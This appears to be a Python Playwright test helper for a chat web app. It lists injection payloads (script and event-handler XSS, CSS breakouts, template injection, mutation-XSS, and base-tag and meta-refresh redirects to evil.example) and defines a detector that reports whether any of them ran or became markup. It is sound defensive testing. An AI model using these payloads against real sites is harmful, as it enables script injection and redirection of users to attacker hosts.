"""Texts that try to become code, markup, style or protocol. Whatever runs sets `window.pwned`."""

from __future__ import annotations

from playwright.sync_api import Frame, Page

NASTY = [
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '"><script>window.pwned=1</script>',
    "' autofocus onfocus='window.pwned=1' style='position:fixed;inset:0",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    "</style><style>*{display:none!important}</style>",
    "red;} *{display:none!important",
    "url(javascript:window.pwned=1)",
    "</textarea><input autofocus onfocus=window.pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<template shadowrootmode=open><style>:host{display:none}</style></template>",
    "<base href=//evil.example/><form action=//evil.example><button autofocus>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "{% raw %}{{7*7}}",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "\u202eevil",
    'x\n\nevent: gone\ndata: {"state": null}\n\n',
]

# Words of visitors stand in these places; there nothing but plain text and our own few elements may be.
_FOUND = """() => {
  const places = '.log, .panel, .outcome, .notice, dialog, h1, h2, main dd, main td, main blockquote, .transcript';
  const foreign = ['script', 'img:not([data-chat=logo])', 'iframe', 'style', 'object', 'embed', 'form:not([action^="/"])',
    'base', 'meta', 'math', 'template'].join();
  const found = [...document.querySelectorAll(places)].flatMap(place => [...place.querySelectorAll(foreign)]);
  const attributes = [...document.querySelectorAll('*')].flatMap(node => [...node.attributes]).filter(({ name, value }) =>
    /^on|^style$|^srcdoc$/i.test(name) || /href$|src$|action$/.test(name) && /^\\s*javascript:/i.test(value));
  const nodes = [...found, ...attributes.map(one => one.ownerElement)];
  return [...('pwned' in window ? ['it ran'] : []), ...nodes.map(node => node.outerHTML)];
}"""
_SHOWN = "() => getComputedStyle(document.querySelector('main')).display !== 'none'"


def harm(page: Page | Frame) -> list[str]:
    """What ran, what became an element or an attribute, and what was styled away."""
    found = list(page.evaluate(_FOUND))
    return found if page.evaluate(_SHOWN) else [*found, "main is not shown"]
